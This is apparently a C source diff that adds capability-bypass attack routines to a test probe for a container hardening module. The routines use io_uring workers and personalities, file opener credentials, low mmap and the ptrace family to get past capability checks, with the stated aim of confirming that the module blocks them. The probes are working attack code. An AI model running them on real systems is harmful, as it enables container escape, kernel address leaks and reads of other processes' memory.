@@ -24,6 +24,14 @@
 #include <time.h>
 #include <unistd.h>
 
+/* For the capability-set attacks (atk_*) */
+#include <dirent.h>
+#include <linux/io_uring.h>
+#include <sys/prctl.h>
+#include <sys/ptrace.h>
+#include <sys/uio.h>
+#include <sys/wait.h>
+
 static int report(const char *what, int rc)
 {
 	if (rc == 0) {
@@ -220,6 +228,386 @@ static int bind_cg_steer(int argc, char **argv)
 	}
 }
 
+/*
+ * Capability-set attacks (tests/vm/capsets_docker.sh): routes by which a
+ * container task could use a capability that harden's security_capable()
+ * veto never sees, because the check is made on a cred other than
+ * current->real_cred (io_uring workers, a file's opener cred), or bypasses
+ * security_capable() (cap_mmap_addr, ptrace's permitted-subset rule).
+ * Each succeeds in a --privileged container without harden; with the
+ * capability sets clamped to the allow-list, each must fail.
+ */
+struct atk_ring {
+	int fd;
+	unsigned int *sq_tail, *sq_mask, *sq_array;
+	unsigned int *cq_head, *cq_tail, *cq_mask;
+	struct io_uring_sqe *sqes;
+	struct io_uring_cqe *cqes;
+};
+
+/* io_uring_setup(2) and the three mappings, without liburing. */
+static int atk_ring_init(struct atk_ring *r)
+{
+	struct io_uring_params p;
+	size_t sqsz, cqsz;
+	char *sq, *cq;
+
+	memset(&p, 0, sizeof(p));
+	r->fd = (int)syscall(SYS_io_uring_setup, 4, &p);
+	if (r->fd < 0)
+		return -1;
+	sqsz = p.sq_off.array + p.sq_entries * sizeof(unsigned int);
+	cqsz = p.cq_off.cqes + p.cq_entries * sizeof(struct io_uring_cqe);
+	if ((p.features & IORING_FEAT_SINGLE_MMAP) && cqsz > sqsz)
+		sqsz = cqsz;
+	sq = mmap(NULL, sqsz, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE,
+		  r->fd, IORING_OFF_SQ_RING);
+	if (sq == MAP_FAILED)
+		return -1;
+	cq = sq;
+	if (!(p.features & IORING_FEAT_SINGLE_MMAP)) {
+		cq = mmap(NULL, cqsz, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE,
+			  r->fd, IORING_OFF_CQ_RING);
+		if (cq == MAP_FAILED)
+			return -1;
+	}
+	r->sqes = mmap(NULL, p.sq_entries * sizeof(struct io_uring_sqe),
+		       PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE,
+		       r->fd, IORING_OFF_SQES);
+	if (r->sqes == MAP_FAILED)
+		return -1;
+	r->sq_tail = (void *)(sq + p.sq_off.tail);
+	r->sq_mask = (void *)(sq + p.sq_off.ring_mask);
+	r->sq_array = (void *)(sq + p.sq_off.array);
+	r->cq_head = (void *)(cq + p.cq_off.head);
+	r->cq_tail = (void *)(cq + p.cq_off.tail);
+	r->cq_mask = (void *)(cq + p.cq_off.ring_mask);
+	r->cqes = (void *)(cq + p.cq_off.cqes);
+	return 0;
+}
+
+/* Submit @sqe, wait for its completion; its result in *@res. */
+static int atk_ring_run(struct atk_ring *r, const struct io_uring_sqe *sqe, int *res)
+{
+	unsigned int tail = *r->sq_tail, idx = tail & *r->sq_mask, head;
+
+	r->sqes[idx] = *sqe;
+	r->sq_array[idx] = idx;
+	__atomic_store_n(r->sq_tail, tail + 1, __ATOMIC_RELEASE);
+	if (syscall(SYS_io_uring_enter, r->fd, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0) < 0)
+		return -1;
+	head = __atomic_load_n(r->cq_head, __ATOMIC_ACQUIRE);
+	if (head == __atomic_load_n(r->cq_tail, __ATOMIC_ACQUIRE)) {
+		errno = EIO;	/* io_uring_enter returned without a completion */
+		return -1;
+	}
+	*res = r->cqes[head & *r->cq_mask].res;
+	__atomic_store_n(r->cq_head, head + 1, __ATOMIC_RELEASE);
+	return 0;
+}
+
+/* Number of io-wq worker threads ("iou-wrk-*") this process has. */
+static int atk_iou_workers(void)
+{
+	char path[300], comm[32];
+	struct dirent *e;
+	int n = 0, fd;
+	ssize_t len;
+	DIR *d = opendir("/proc/self/task");
+
+	while (d && (e = readdir(d))) {
+		snprintf(path, sizeof(path), "/proc/self/task/%s/comm", e->d_name);
+		fd = open(path, O_RDONLY | O_CLOEXEC);
+		if (fd < 0)
+			continue;
+		len = read(fd, comm, sizeof(comm) - 1);
+		close(fd);
+		if (len > 0 && !strncmp(comm, "iou-wrk", 7))
+			n++;
+	}
+	if (d)
+		closedir(d);
+	return n;
+}
+
+/*
+ * Install a new struct cred without needing any capability: PR_SET_KEEPCAPS
+ * is prepare_creds() + commit_creds(). From now on current->real_cred is
+ * not the cred any earlier-created io-wq worker, personality or file holds.
+ */
+static int atk_new_cred(void)
+{
+	return prctl(PR_SET_KEEPCAPS, 1, 0, 0, 0);
+}
+
+/* Print "WHAT: ok (EXTRA)" or the error of @res (a -errno), as report(). */
+static int atk_result(const char *what, int res, const char *extra)
+{
+	if (res >= 0) {
+		printf("%s: ok%s%s%s\n", what, extra ? " (" : "", extra ?: "", extra ? ")" : "");
+		return 0;
+	}
+	errno = -res;
+	return report(what, -1);
+}
+
+/*
+ * uring-setxattr PATH / uring-open PATH: start an io-wq worker (async NOP)
+ * under the current cred, change cred, then have the worker (whose
+ * real_cred is the old cred) run SETXATTR trusted.hprobe (CAP_SYS_ADMIN)
+ * or OPENAT of a CAP_SYS_RAWIO device under the new one.
+ */
+static int atk_uring_worker(int argc, char **argv)
+{
+	static const char value[] = "hprobe";
+	struct io_uring_sqe sqe;
+	struct atk_ring r;
+	char what[300], extra[64];
+	int res, w1, w2;
+
+	(void)argc;
+	snprintf(what, sizeof(what), "%s %s", argv[0], argv[1]);
+	if (atk_ring_init(&r) < 0)
+		return report("io_uring_setup", -1);
+	memset(&sqe, 0, sizeof(sqe));
+	sqe.opcode = IORING_OP_NOP;
+	sqe.flags = IOSQE_ASYNC;
+	if (atk_ring_run(&r, &sqe, &res) < 0)
+		return report("io_uring_enter (NOP)", -1);
+	w1 = atk_iou_workers();
+	if (atk_new_cred() < 0)
+		return report("prctl(PR_SET_KEEPCAPS)", -1);
+	memset(&sqe, 0, sizeof(sqe));
+	sqe.flags = IOSQE_ASYNC;
+	if (!strcmp(argv[0], "uring-setxattr")) {
+		sqe.opcode = IORING_OP_SETXATTR;
+		sqe.addr = (unsigned long)"trusted.hprobe";
+		sqe.addr2 = (unsigned long)value;
+		sqe.len = sizeof(value) - 1;
+		sqe.addr3 = (unsigned long)argv[1];
+	} else {
+		sqe.opcode = IORING_OP_OPENAT;
+		sqe.fd = AT_FDCWD;
+		sqe.addr = (unsigned long)argv[1];
+		sqe.open_flags = O_RDONLY | O_CLOEXEC;
+	}
+	if (atk_ring_run(&r, &sqe, &res) < 0)
+		return report("io_uring_enter", -1);
+	w2 = atk_iou_workers();
+	snprintf(extra, sizeof(extra), "iou-wrk threads: %d before, %d after", w1, w2);
+	return atk_result(what, res, extra);
+}
+
+/*
+ * uring-personality highbit [PATH] | uring-personality PATH: register a
+ * personality (with "highbit", through a registered ring fd and
+ * IORING_REGISTER_USE_REGISTERED_RING in the opcode, which 6.1 refuses
+ * with EINVAL). With PATH: change cred, then SETXATTR trusted.hprobe on
+ * PATH under the personality (the old cred), in a worker whose real_cred
+ * is the new one.
+ */
+static int atk_uring_personality(int argc, char **argv)
+{
+	static const char value[] = "hprobe";
+	int highbit = !strcmp(argv[1], "highbit");
+	const char *path = highbit ? (argc > 2 ? argv[2] : NULL) : argv[1];
+	const char *mode = highbit ? "uring-personality highbit" : "uring-personality";
+	unsigned int op = IORING_REGISTER_PERSONALITY;
+	struct io_uring_rsrc_update up;
+	struct io_uring_sqe sqe;
+	struct atk_ring r;
+	char what[300], extra[64];
+	int regfd, id, res;
+
+	if (atk_ring_init(&r) < 0)
+		return report("io_uring_setup", -1);
+	regfd = r.fd;
+	if (highbit) {
+		memset(&up, 0, sizeof(up));
+		up.offset = -1U;	/* any free slot */
+		up.data = (unsigned int)r.fd;
+		if (syscall(SYS_io_uring_register, r.fd, IORING_REGISTER_RING_FDS, &up, 1) != 1)
+			return report("io_uring_register(RING_FDS)", -1);
+		regfd = (int)up.offset;
+		op |= 1U << 31;		/* IORING_REGISTER_USE_REGISTERED_RING */
+	}
+	id = (int)syscall(SYS_io_uring_register, regfd, op, NULL, 0);
+	snprintf(what, sizeof(what), "%s: register", mode);
+	if (id < 0)
+		return report(what, -1);
+	snprintf(extra, sizeof(extra), "personality %d", id);
+	if (!path)
+		return atk_result(what, 0, extra);
+	if (atk_new_cred() < 0)
+		return report("prctl(PR_SET_KEEPCAPS)", -1);
+	memset(&sqe, 0, sizeof(sqe));
+	sqe.opcode = IORING_OP_SETXATTR;
+	sqe.flags = IOSQE_ASYNC;
+	sqe.personality = (unsigned short)id;
+	sqe.addr = (unsigned long)"trusted.hprobe";
+	sqe.addr2 = (unsigned long)value;
+	sqe.len = sizeof(value) - 1;
+	sqe.addr3 = (unsigned long)path;
+	if (atk_ring_run(&r, &sqe, &res) < 0)
+		return report("io_uring_enter", -1);
+	snprintf(what, sizeof(what), "%s: %s; setxattr %s", mode, extra, path);
+	return atk_result(what, res, NULL);
+}
+
+/*
+ * fcred-read [FILE]: open FILE (default /proc/modules), fork; the child
+ * changes cred and reads it. Kernel addresses in it are shown only if the
+ * cred checked (file->f_cred, the opener's) has CAP_SYSLOG. Exit 0 shown,
+ * 1 hidden.
+ */
+static int atk_fcred_read(int argc, char **argv)
+{
+	const char *path = argc > 1 ? argv[1] : "/proc/modules";
+	static char buf[1 << 20];
+	size_t tot = 0;
+	ssize_t n;
+	int fd, st, nums = 0, nz = 0;
+	char *p, *end;
+	pid_t pid;
+
+	fd = open(path, O_RDONLY | O_CLOEXEC);
+	if (fd < 0)
+		return report(path, -1);
+	fflush(stdout);
+	pid = fork();
+	if (pid < 0)
+		return report("fork", -1);
+	if (pid == 0) {	/* exit(), not _exit(): flush the one line */
+		if (atk_new_cred() < 0)
+			exit(report("prctl(PR_SET_KEEPCAPS)", -1));
+		/* sysfs section files refuse a read past offset 0: EINVAL ends it. */
+		while (tot < sizeof(buf) - 1 &&
+		       (n = read(fd, buf + tot, sizeof(buf) - 1 - tot)) != 0) {
+			if (n < 0) {
+				if (tot)
+					break;
+				exit(report("read", -1));
+			}
+			tot += (size_t)n;
+		}
+		buf[tot] = 0;
+		for (p = buf; (p = strstr(p, "0x")); p = end) {
+			end = p + 2;
+			nums++;
+			if (strtoull(p + 2, &end, 16))
+				nz++;
+		}
+		if (!nums) {
+			printf("fcred-read %s: no addresses listed\n", path);
+			exit(3);
+		}
+		printf("fcred-read %s: addresses: %s (%d of %d non-zero)\n", path,
+		       nz ? "shown" : "hidden", nz, nums);
+		exit(nz ? 0 : 1);
+	}
+	if (waitpid(pid, &st, 0) < 0)
+		return report("waitpid", -1);
+	return WIFEXITED(st) ? WEXITSTATUS(st) : 3;
+}
+
+/* mmap-low: an anonymous page at 0x1000, below vm.mmap_min_addr (CAP_SYS_RAWIO). */
+static int atk_mmap_low(void)
+{
+	void *p = mmap((void *)0x1000, 4096, PROT_READ | PROT_WRITE,
+		       MAP_FIXED | MAP_ANONYMOUS | MAP_PRIVATE, -1, 0);
+
+	if (p == MAP_FAILED)
+		return report("mmap-low 0x1000", -1);
+	*(volatile char *)p = 1;
+	munmap(p, 4096);
+	return report("mmap-low 0x1000", 0);
+}
+
+/*
+ * ptrace-attach PID | proc-root PID | vm-readv PID | pidfd-getfd PID FD:
+ * reach another process through ptrace_may_access(), which lets a caller
+ * whose permitted (or effective, for /proc) set is a superset of the
+ * target's through without asking for CAP_SYS_PTRACE.
+ */
+static int atk_ptrace_family(int argc, char **argv)
+{
+	const char *a = argv[0];
+	pid_t pid = (pid_t)atoi(argv[1]);
+	char what[64], path[64], extra[300];
+	int st;
+
+	snprintf(what, sizeof(what), "%s %d", a, (int)pid);
+	if (!strcmp(a, "ptrace-attach")) {
+		if (ptrace(PTRACE_ATTACH, pid, NULL, NULL) < 0)
+			return report(what, -1);
+		waitpid(pid, &st, __WALL);
+		ptrace(PTRACE_DETACH, pid, NULL, NULL);
+		return atk_result(what, 0, "attached and detached");
+	}
+	if (!strcmp(a, "proc-root")) {
+		struct dirent *e;
+		int n = 0;
+		DIR *d;
+
+		snprintf(path, sizeof(path), "/proc/%d/root/", (int)pid);
+		d = opendir(path);
+		if (!d)
+			return report(what, -1);
+		while ((e = readdir(d)))
+			n++;
+		closedir(d);
+		snprintf(extra, sizeof(extra), "%d entries in %s", n, path);
+		return atk_result(what, 0, extra);
+	}
+	if (!strcmp(a, "vm-readv")) {
+		unsigned long lo = 0x10000, hi;
+		char perms[8] = "", data[16];
+		struct iovec local = { data, sizeof(data) }, remote;
+		const char *how = "maps unreadable, probing 0x10000";
+		ssize_t n;
+		FILE *f;
+
+		snprintf(path, sizeof(path), "/proc/%d/maps", (int)pid);
+		f = fopen(path, "re");
+		if (f) {
+			while (fscanf(f, "%lx-%lx %7s%*[^\n]", &lo, &hi, perms) == 3 &&
+			       perms[0] != 'r')
+				;
+			fclose(f);
+			how = "first readable mapping";
+		}
+		remote.iov_base = (void *)lo;
+		remote.iov_len = sizeof(data);
+		n = process_vm_readv(pid, &local, 1, &remote, 1, 0);
+		if (n < 0 && errno == EFAULT && !f)
+			return atk_result(what, 0, "access granted: EFAULT at an unmapped address");
+		if (n < 0)
+			return report(what, -1);
+		snprintf(extra, sizeof(extra), "%zd bytes at %#lx, %s%s", n, lo, how,
+			 n >= 4 && !memcmp(data, "\177ELF", 4) ? ": an ELF header" : "");
+		return atk_result(what, 0, extra);
+	}
+	if (!strcmp(a, "pidfd-getfd") && argc == 3) {
+		int pfd = (int)syscall(SYS_pidfd_open, pid, 0), fd;
+		char target[256] = "?";
+		ssize_t n;
+
+		snprintf(what, sizeof(what), "pidfd-getfd %d %s", (int)pid, argv[2]);
+		if (pfd < 0)
+			return report("pidfd_open", -1);
+		fd = (int)syscall(SYS_pidfd_getfd, pfd, atoi(argv[2]), 0);
+		if (fd < 0)
+			return report(what, -1);
+		snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
+		n = readlink(path, target, sizeof(target) - 1);
+		target[n > 0 ? n : 1] = 0;
+		snprintf(extra, sizeof(extra), "got fd %d -> %s", fd, target);
+		return atk_result(what, 0, extra);
+	}
+	fprintf(stderr, "hprobe: bad action\n");
+	return 2;
+}
+
 static int one(int argc, char **argv)
 {
 	const char *a = argv[0];
@@ -270,6 +658,19 @@ static int one(int argc, char **argv)
 		return bind_execfail_wait(argc, argv);
 	if (!strcmp(a, "cg-steer") && argc == 3)
 		return bind_cg_steer(argc, argv);
+	if ((!strcmp(a, "uring-setxattr") || !strcmp(a, "uring-open")) && argc == 2)
+		return atk_uring_worker(argc, argv);
+	if (!strcmp(a, "uring-personality") && (argc == 2 || argc == 3))
+		return atk_uring_personality(argc, argv);
+	if (!strcmp(a, "fcred-read") && argc <= 2)
+		return atk_fcred_read(argc, argv);
+	if (!strcmp(a, "mmap-low") && argc == 1)
+		return atk_mmap_low();
+	if ((!strcmp(a, "ptrace-attach") || !strcmp(a, "proc-root") ||
+	     !strcmp(a, "vm-readv")) && argc == 2)
+		return atk_ptrace_family(argc, argv);
+	if (!strcmp(a, "pidfd-getfd") && argc == 3)
+		return atk_ptrace_family(argc, argv);
 	fprintf(stderr, "hprobe: bad action\n"
 		"usage: hprobe ACTION [ARG]  (sethostname NAME | mount-tmpfs DIR |\n"
 		"  finit-module FILE | delete-module NAME | sndbufforce | chown PATH |\n"
@@ -277,6 +678,10 @@ static int one(int argc, char **argv)
 		"  memfd-exec ACTION [ARG] | repeat N ACTION [ARG] |\n"
 		"  comm NAME ACTION... | wait FILE ACTION... | execfail-wait FILE ACTION... |\n"
 		"  execnoent-wait FILE ACTION... | cg-steer DESTFILE SECONDS)\n");
+	fputs("  capability-set attacks: uring-setxattr PATH | uring-open PATH |\n"
+	      "  uring-personality highbit [PATH] | uring-personality PATH |\n"
+	      "  fcred-read [FILE] | mmap-low | ptrace-attach PID | proc-root PID |\n"
+	      "  vm-readv PID | pidfd-getfd PID FD\n", stderr);
 	return 2;
 }
 
